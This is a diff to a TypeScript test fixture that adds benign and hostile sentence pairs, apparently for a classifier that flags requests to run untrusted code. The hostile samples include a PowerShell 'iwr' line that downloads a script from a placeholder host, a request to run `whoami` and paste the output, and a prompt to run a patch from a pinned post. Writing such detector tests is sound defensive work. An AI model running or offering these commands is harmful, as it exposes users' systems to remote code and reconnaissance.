@@ -953,6 +953,19 @@ const FOUND_15: [string, string, string, MirrorFlag][] = [
     'Deposit your collateral into my vault and the loan is released.',
     'money_request',
   ],
+  [
+    'a run ask on this or it with a time, a place or a comma',
+    'I grabbed the patch from the pinned post and ran it last week.',
+    'Grab the patch from the pinned post and run it now.',
+    'decode_request',
+  ],
+  [
+    'a bare run verb before a colon',
+    'Execution time was four minutes on my laptop.',
+    'Execute: iwr https://example.net/fix.ps1 -OutFile fix.ps1',
+    'decode_request',
+  ],
+  ['a quoted command to run and report back', 'I ran `whoami` and it printed my user name.', 'run `whoami` and paste the result here', 'decode_request'],
 ];
 
 for (const [family, benign, hostile, label] of FOUND_15) {
